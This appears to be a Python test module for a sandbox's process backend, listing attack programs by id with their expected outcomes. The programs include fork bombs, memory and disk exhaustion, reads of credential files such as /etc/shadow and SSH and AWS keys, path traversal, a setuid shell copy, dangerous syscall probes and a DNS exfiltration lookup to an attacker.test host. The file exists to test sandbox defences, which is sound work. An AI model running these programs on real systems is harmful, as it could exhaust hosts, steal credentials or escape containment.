"""Hostile programs for the process backend, by the ids of the project's attack list. Each is bounded by itself."""

from __future__ import annotations

from harness import SECRET, Attack

from sandbox_kernel import Limits

#: Calls a syscall by its number on this machine and prints the errno.
SYSCALL = """
import ctypes, os, errno, platform
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == 'aarch64'
def call(name, x86, arm, *args):
    number = arm if ARM else x86
    if number is None: print(name, 'ENOSYS'); return
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    print(name, 'OPEN' if result >= 0 else errno.errorcode.get(ctypes.get_errno()))
"""

ATTACKS = (
    Attack(
        id="R01", language="python", status=("ok",), limit="processes", says=("EAGAIN",),
        code="import os\nn=0\ntry:\n  while n<3000:\n    if os.fork()==0: os.execv('/bin/sleep',['sleep','20'])\n"
             "    n+=1\nexcept OSError as e: print('EAGAIN',n)\nassert n <= 64",
    ),
    Attack(
        id="R02", language="command", status=("ok", "failed", "timeout"), limit=None, timeout=2,
        code="f(){ [ $1 -gt 11 ] && sleep 10 || { f $(($1+1)) & f $(($1+1)); }; }; f 0",
    ),
    Attack(
        id="R04", language="python", status=("memory_exceeded",), limit="memory",
        code="b=[]\nfor i in range(80): b.append(bytearray(b'x'*(50<<20)))",
    ),
    Attack(id="R05", language="python", status=("memory_exceeded",), limit="memory", code="x=bytearray(64<<30)"),
    Attack(
        id="R07", language="python", status=("memory_exceeded",), limit="memory",
        code="import mmap,os\ntry: fd=os.memfd_create('x'); os.ftruncate(fd,3<<30)\n"
             "except OSError: fd=-1\nm=mmap.mmap(fd,3<<30)\n"
             "for i in range(0,3<<30,4096): m[i]=1",
    ),
    Attack(
        id="R08", language="command", status=("failed",), says=("No space left",), timeout=20,
        code="dd if=/dev/zero of=/dev/shm/x bs=1M count=3000 2>&1; dd if=/dev/zero of=/tmp/x bs=1M count=3000 2>&1",
    ),
    Attack(
        id="R09", language="python", status=("failed",), limit="disk", says=("No space left",),
        code="f=open('big','wb')\nfor i in range(4096): f.write(b'x'*(1<<20))",
    ),
    Attack(
        id="R10", language="python", status=("failed",), limit="disk", says=("No space left",), timeout=30,
        limits=Limits(disk_mb=64),
        code="for i in range(200000): open('f%d'%i,'wb').write(b'x'*8192)",
    ),
    Attack(
        id="R11", language="python", status=("killed",), limit="disk", timeout=60, memory_mb=1024,
        limits=Limits(disk_mb=64),
        # It waits at the end, for a host that looks late.
        code="import os, time\nfor i in range(300000): os.mkdir('d%d'%i)\ntime.sleep(40)",
    ),
    Attack(
        id="R12", language="python", status=("failed",), limit="disk", says=("File too large",),
        code="open('s','wb').truncate(1<<40)",
    ),
    Attack(
        id="R14", language="python", status=("ok",), timeout=60, memory_mb=1024,
        code="import os\nfor i in range(100000):\n  os.mkdir('a'); os.chdir('a')",
    ),
    Attack(
        id="R15", language="python", status=("timeout",), limit="timeout", timeout=1,
        code="import sys\nb='x'*65536+'\\n'\nwhile True: sys.stdout.write(b)",
    ),
    Attack(
        id="R19", language="python", status=("cpu_limit",), limit="cpu", timeout=30, limits=Limits(cpu_seconds=1),
        code="import os\nfor _ in range(16):\n  if os.fork()==0:\n    while True: pass\nos.wait()",
    ),
    Attack(
        id="R20", language="command", status=("cpu_limit",), limit="cpu", timeout=30, limits=Limits(cpu_seconds=1),
        code="while :; do python3 -c 'sum(range(3000000))'; done",
    ),
    Attack(
        id="R22", language="python", status=("timeout",), limit="timeout", timeout=1,
        code="import signal,time\nfor s in range(1,65):\n  try: signal.signal(s,signal.SIG_IGN)\n"
             "  except Exception: pass\nwhile True: time.sleep(1)",
    ),
    Attack(
        id="R23", language="python", status=("timeout",), limit="timeout", timeout=1,
        code="import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1,65))\nwhile True: signal.pause()",
    ),
    Attack(
        id="R25", language="python", status=("failed",), limit="open_files", says=("Too many open files",),
        code="import os,socket\nk=[]\nwhile len(k)<200000: k.append(os.pipe()); k.append(socket.socketpair())",
    ),
    Attack(
        id="R26", language="python", status=("ok",), stdin_mb=256, says=("unread",),
        code="import time; time.sleep(.3); print('unread')",
    ),
    Attack(
        id="R30", language="python", status=("ok",), says=("sched PermissionError", "nice PermissionError"),
        code="import os\ndef tried(name, f):\n  try: f(); print(name, 'DONE')\n"
             "  except OSError as e: print(name, type(e).__name__)\n"
             "tried('sched', lambda: os.sched_setscheduler(0,os.SCHED_FIFO,os.sched_param(99)))\n"
             "tried('nice', lambda: os.nice(-20))",
    ),
    Attack(
        id="K01", language="python", status=("timeout",), limit="timeout", timeout=1,
        code="import os,time\nif os.fork()==0:\n  os.setsid()\n"
             "  if os.fork()==0: os.execv('/bin/sleep',['sleep','30'])\n  os._exit(0)\ntime.sleep(60)",
    ),
    Attack(
        id="K02", language="python", status=("ok",), says=("hi",), timeout=20,
        code="import os,time\nprint('hi')\nif os.fork()==0: time.sleep(25)",
    ),
    Attack(
        id="K03", language="python", status=("ok", "timeout", "failed"), timeout=2,
        code="import os,time\nfor g in range(400):\n  if os.fork()==0:\n    os.setsid(); time.sleep(.002)\n"
             "  else: os._exit(0)\ntime.sleep(20)",
    ),
    Attack(
        id="K06", language="python", status=("ok", "killed", "failed"), timeout=5,
        code="import os\nfor p in (os.getppid(),1,0,-1,-os.getpgrp(),@HOSTPID@):\n"
             "  try: os.kill(p,15); print('SENT',p)\n  except OSError as e: print(e)",
    ),
    Attack(
        id="F01", language="python", status=("ok",), never_says=("root:$", "BEGIN", SECRET),
        code="for p in ['/etc/shadow','/root/.ssh/id_rsa','/root/.aws/credentials','/proc/1/root/etc/shadow',"
             "'@SENTINELS@/secret.txt']:\n  try: print(open(p).read())\n  except OSError as e: print(e)",
    ),
    Attack(
        id="F02", language="python", status=("ok",), never_says=(SECRET, "READ"),
        code="for p in ['../../../..@SENTINELS@/secret.txt','/box/..@SENTINELS@/secret.txt','/@SENTINELS@/secret.txt',"
             "'@SENTINELS@/secret.txt/','..%2f..%2fetc/shadow','\\uff0e\\uff0e/etc/shadow', 'etc\\x00/passwd']:\n"
             "  try: print('READ', open(p).read())\n  except (OSError, ValueError) as e: print(e)",
    ),
    Attack(
        id="F04", language="python", status=("ok",), never_says=(SECRET,),
        code="import os\nos.symlink('@SENTINELS@/secret.txt','result.csv')\n"
             "os.symlink('/proc/self/environ','plot.png')",
    ),
    Attack(
        id="F09", language="command", status=("ok", "failed"), says=("uid=1000",), never_says=("uid=0",),
        code="cp /bin/sh s; chmod 4755 s; ./s -p -c id",
    ),
    Attack(
        id="F12", language="python", status=("ok",), never_says=("OPENED",),
        code="for p in ('/proc/sys/kernel/core_pattern','/proc/self/exe','/proc/sysrq-trigger','/proc/1/mem',"
             "'/proc/sys/vm/drop_caches','/sys/kernel/uevent_helper'):\n"
             "  try: open(p,'r+b'); print('OPENED',p)\n  except OSError as e: print(p, e.strerror)",
    ),
    Attack(
        id="F13", language="python", status=("ok",), says=("[]",),
        code="import os\nfound=[]\nfor f in os.listdir('/proc/self/fd'):\n"
             "  try: name=os.readlink('/proc/self/fd/'+f)\n  except OSError: continue\n"
             "  if int(f)>2 and not name.startswith('/proc/'): found.append((f,name))\nprint(found)",
    ),
    Attack(
        id="F14", language="python", status=("ok",), says=("[]",),
        code="import glob\nprint(glob.glob('/tmp/*sandbox*/*') + glob.glob('/home/*') + glob.glob('/root/.[a-oq-z]*'))",
    ),
    Attack(
        id="F16", language="python", status=("ok",),
        code="open('json.py','w').write('raise SystemExit(\"pwn\")'); open('sitecustomize.py','w').write('1/0')",
    ),
    Attack(
        id="F17", language="python", status=("ok",),
        code="for n in ['-rf','a\\nb','\\x1b[2J','<img src=x onerror=alert(1)>','.._up','\\udcff','a'*255,'CON']:\n"
             "  open(n,'w').close()",
    ),
    Attack(
        id="S01", language="python", status=("ok",), never_says=("True", SECRET),
        code="import glob\nfor p in glob.glob('/proc/[0-9]*/environ'):\n"
             "  try: d=open(p,'rb').read(); print(p,b'SBX_SENTINEL' in d)\n  except OSError: pass",
    ),
    Attack(
        id="S03", language="python", status=("ok",), says=("unshare EPERM", "mount EPERM", "setns EPERM"),
        code=SYSCALL + "call('unshare',272,97,0x10000000|0x20000)\n"
             "call('mount',165,40,b'none',b'/tmp',b'tmpfs',0,None)\n"
             "call('setns',308,268,0,0)\ncall('chroot',161,51,b'/tmp')\ncall('pivot_root',155,41,b'/',b'/')",
        never_says=("OPEN",),
    ),
    Attack(
        id="S04", language="python", status=("ok",), says=("io_uring ENOSYS", "bpf EPERM", "keyctl EPERM"),
        never_says=("OPEN",),
        code=SYSCALL + "call('io_uring',425,425,8,ctypes.create_string_buffer(256))\ncall('bpf',321,280,0,None,0)\n"
             "call('keyctl',250,219,0,0,0)\ncall('perf',298,241,None,0,-1,-1,0)\ncall('userfaultfd',323,282,0)\n"
             "call('ptrace',101,117,0,0,0,0)\ncall('kexec',246,104,0,0,None,0)\ncall('add_key',248,217,b'user',b'x',b'y',1,-3)",
    ),
    Attack(
        id="S06", language="python", status=("ok",), never_says=("OPEN",),
        code=SYSCALL + "call('x32 getpid',0x40000000|39,None)\ncall('far',900,900)",
    ),
    Attack(
        id="S07", language="python", status=("ok",), says=("clone3 ENOSYS",), never_says=("OPEN",),
        code=SYSCALL + "call('clone3',435,435,(ctypes.c_uint64*11)(0x10000000),88)\n"
             "call('clone',56,220,0x10000000|17,0,0,0,0)",
    ),
    Attack(
        id="S08", language="python", status=("ok",), never_says=("PUSHED",),
        code="import fcntl,os,pty\nm,s=pty.openpty()\nfor r in (0x5412, 0x541C, 0x100005412):\n"
             "  try: fcntl.ioctl(s,r & 0xFFFFFFFF,b'i'); print('PUSHED')\n  except OSError as e: print(e.strerror)",
    ),
    Attack(
        id="S09", language="python", status=("ok",), never_says=("OPENED",),
        code="for d in ('/dev/tty','/dev/kvm','/dev/fuse','/dev/mem','/dev/vda','/dev/nvme0n1'):\n"
             "  try: open(d,'r+b'); print('OPENED',d)\n  except OSError as e: print(e)",
    ),
    Attack(
        id="S11", language="python", status=("ok",), says=("from memory",),
        code="import os\ntry: fd=os.memfd_create('x')\nexcept OSError: print('nothing from memory'); raise SystemExit\n"
             "os.write(fd,open('/bin/echo','rb').read())\nos.execve(fd,['echo','from','memory'],{})",
    ),
    Attack(
        id="S12", language="command", policy="strict", status=("failed", "killed"), never_says=("curl 7", "curl 8"),
        code="cat /etc/passwd; for l in /lib/ld-linux-* /lib64/ld-linux-*; do $l /usr/bin/curl --version; done; exit 9",
    ),
    Attack(id="S14", language="python", status=("failed",), code="import os; os.abort()"),
    Attack(
        id="S16", language="python", status=("ok",), never_says=(SECRET,),
        code="import ctypes,gc,sys\nprint(len([].__class__.__base__.__subclasses__()) > 10)\n"
             "ctypes.CDLL(None).system(b'id; cat @SENTINELS@/secret.txt')\nprint(len(gc.get_objects()) > 10)\n"
             "sys.settrace(lambda *a: None)",
    ),
    Attack(
        id="N02", language="python", status=("ok",), never_says=("OPENED",),
        code="import socket\nfor f,t in ((2,3),(17,3),(16,3),(40,1),(31,1),(38,5)):\n"
             "  try: socket.socket(f,t); print('OPENED',f,t)\n  except OSError as e: print(f,t,e.strerror)",
    ),
    Attack(
        id="N03", language="python", status=("ok",), never_says=("CONNECTED",),
        code="import socket\ntry:\n  a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_DGRAM)\n"
             "  a.sendto(b'x','@DATAGRAM@'); print('CONNECTED')\nexcept OSError as e: print(e)\n"
             "for a in ('\\0@ABSTRACT@','@PATHNAME@'):\n  s=socket.socket(socket.AF_UNIX)\n"
             "  try: s.connect(a); print('CONNECTED')\n  except OSError as e: print(e)\n"
             "for k,p in ((socket.SOCK_STREAM,@TCP@),(socket.SOCK_DGRAM,@UDP@)):\n  s=socket.socket(type=k)\n"
             "  try: s.connect(('@ADDRESS@',p)); s.send(b'x'); print('CONNECTED' if k==1 else 'sent')\n"
             "  except OSError as e: print(e)",
    ),
    Attack(
        id="N09", language="python", status=("failed",), says=("gaierror",),
        code="import socket\nsocket.getaddrinfo('c2VjcmV0.attacker.test',80)",
    ),
    Attack(
        id="N12", language="python", status=("ok",), says=("bound",),
        code="import socket\ns=socket.socket(); s.bind(('0.0.0.0',8888)); s.listen(); print('bound')",
    ),
    Attack(
        id="O03", language="python", status=("ok",), says=("\ufffd\ufffd\x00\U0001f600",),
        code="import os\nos.write(1,b'\\xff\\xfe\\x00\\xf0\\x9f'); os.write(1,b'\\x98\\x80')",
    ),
    Attack(
        id="O11", language="c", status=("compile_failed",), timeout=30, never_says=("root:", "COMPILED"),
        code='#include "/etc/shadow"\n#include "@SENTINELS@/secret.txt"\n#include "/proc/self/environ"\n'
             '__asm__(".incbin \\"@SENTINELS@/secret.txt\\"");\nint main(){puts("COMP" "ILED");}',
    ),
    Attack(
        id="O12", language="c", status=("timeout", "memory_exceeded"), timeout=2, never_says=("COMPILED",),
        code="".join(f"#define M{i} M{i + 1} M{i + 1}\n" for i in range(40))
             + '#define M40 1+\nint main(){puts("COMP" "ILED"); return M0 0;}',
    ),
)  # fmt: skip
